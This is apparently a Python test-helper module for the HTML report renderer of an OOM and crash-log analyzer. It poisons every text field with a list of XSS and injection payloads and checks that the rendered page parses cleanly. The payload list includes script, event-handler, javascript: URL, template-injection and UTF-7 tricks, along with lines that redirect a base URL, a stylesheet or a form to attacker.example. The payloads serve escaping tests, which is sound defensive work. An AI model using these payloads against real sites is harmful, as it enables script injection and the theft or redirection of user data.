"""Pages to try: golden hosts as verdicts, hostile text everywhere, and a reader that takes a page apart."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

from analyzer.test_rules import RULES
from golden_case import TAKEN_AT, case_of

from lastwords import plugins
from lastwords.analyzer.judge import judge
from lastwords.hookspecs import Look, Rule
from lastwords.model import Event, Finding, Proof, Severity, event
from lastwords.verdict import Verdict

REPORT = plugins.load().reports()["html"]
MIB = 1 << 20
LOG = "/var/log/messages"

ATTACKS = (
    "<script>window.pwned=1</script>",
    "\"><img src=x onerror='window.pwned=1'>",
    "</title></style></script><script>window.pwned=1</script>",
    "<svg/onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "--><!--<script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;&#60;b&#62;",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:window.pwned=1'>",
    "<base href='https://attacker.example/'><link rel=stylesheet href=//attacker.example/x.css>",
    "javascript:window.pwned=1//",
    "' autofocus onfocus=window.pwned=1 x='",
    "<a href='javascript:window.pwned=1' id=content>x</a><form action=//attacker.example><input name=a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "\x00\x1b]0;owned\x07\u202e\u2028\ud800\ufeff\x9b<\x00script>window.pwned=1</\x00script>",
    "{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}`",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
)
EXPLANATION: dict[str, Any] = {
    "failure": {
        "kind": "watermark",
        "zones": [{"node": 0, "name": "Normal", "free": 40 * MIB, "low_mark": 44 * MIB, "reserve": 0, "verdict": "below watermark"}],
    },
    "held": {
        "scope": "machine",
        "total": 4000 * MIB,
        "shares": {"anon": 3000 * MIB, "file": 90 * MIB, "slab_unreclaimable": 500 * MIB, "free": 40 * MIB},
        "unaccounted": 370 * MIB,
        "swap_total": 1024 * MIB,
        "swap_free": 0,
    },
    "programs": [
        {"comm": "java", "processes": 2, "rss": 2600 * MIB, "swap": 900 * MIB},
        {"comm": "sshd", "processes": 9, "rss": 20 * MIB, "swap": None},
    ],
    "memcgs": [{"path": "/system.slice/app.service", "bytes": 2600 * MIB}],
    "choice": {"pid": 4711, "confirmed": True, "why": "it weighed the most"},
    "causes": [
        {"id": "one-process", "confidence": "high", "title": "java alone held 2.5 GiB", "why": "Look.", "fix": ["$ ps aux", "Limit it."]}
    ],
}  # fmt: skip


def kill(seconds: float, comm: str = "java", **details: Any) -> Event:
    """Return an OOM kill with all that a whole report tells."""
    victim = {"pid": 4711, "comm": comm, "anon_rss": 2600 * MIB, "oom_score_adj": 0, "how": "chosen"}
    found = {
        **victim,
        "victims": [victim],
        "trigger": {"comm": "kworker/0:1", "order": 0, "gfp_mask": "0x140dca", "gfp_flags": "GFP_HIGHUSER"},
        "explanation": EXPLANATION,
        **details,
    }
    time = TAKEN_AT - 7200 + seconds
    return event("oom_kill", f"the kernel killed {comm} (pid 4711)", path=LOG, line=int(seconds) + 1, time=time, details=found)  # fmt: skip


def golden(host: str, events: list[Event] | None = None, **changes: Any) -> Verdict:
    """Return the verdict on a golden host with some facts changed."""
    return judge(f"{host}.tar.zst", case_of(host, changes, events or []), RULES.values())


def render(verdict: Verdict) -> str:
    """Return the page of a verdict."""
    return REPORT.render(verdict, Look())


def poisoned(host: str, attack: str) -> Verdict:
    """Return a verdict in which every text and many names hold an attack."""

    def poison(value: Any) -> Any:
        if isinstance(value, str):
            return value + attack
        if isinstance(value, list):
            return [poison(each) for each in value]
        if isinstance(value, dict):
            return {**{key: poison(each) for key, each in value.items()}, attack: attack}
        return value

    finding = Finding(
        "some-finding",
        Severity.CRITICAL,
        attack,
        attack,
        subject=attack,
        evidence=(Proof(attack, line=3, excerpt=attack, value=attack, threshold=attack),),
        fix=(attack, f"$ {attack}"),
    )
    case = case_of(host, {}, [kill(5), kill(9, "mysqld"), event("panic", "x", path=LOG, time=TAKEN_AT - 99)])
    case.facts = {name: poison(facts) for name, facts in case.facts.items()}
    case.events = [
        {**each, **poison({k: each[k] for k in ("summary", "path", "details")})} for each in case.events
    ]
    case.outcomes = {**case.outcomes, attack: {"outcome": attack, "reason": attack}}
    case.notes = [attack]
    rules = [
        *RULES.values(),
        Rule("some-finding", (), lambda case: [finding]),
        Rule("missing", (attack,), lambda case: []),
    ]
    return judge(f"/tmp/{attack}", case, rules)


class Page(HTMLParser):
    """The elements of a page as a browser would see them."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: dict[str, str] = {}
        self.comments: list[str] = []
        self._open: list[str] = []
        self.feed(text)
        self.close()
        assert not self._open, f"not closed: {self._open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len(dict(attrs)) == len(attrs), f"{tag}: an attribute stands twice"
        self.elements.append((tag, dict(attrs)))
        if tag not in ("meta", "br", "input"):
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self._open:
            self.text[self._open[-1]] = self.text.get(self._open[-1], "") + data

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def all(self, tag: str) -> list[dict[str, str | None]]:
        """Return the attributes of every element of that name."""
        return [attributes for name, attributes in self.elements if name == tag]

    @property
    def sections(self) -> list[str | None]:
        """The ids of the sections."""
        return [attributes.get("id") for attributes in self.all("section")]
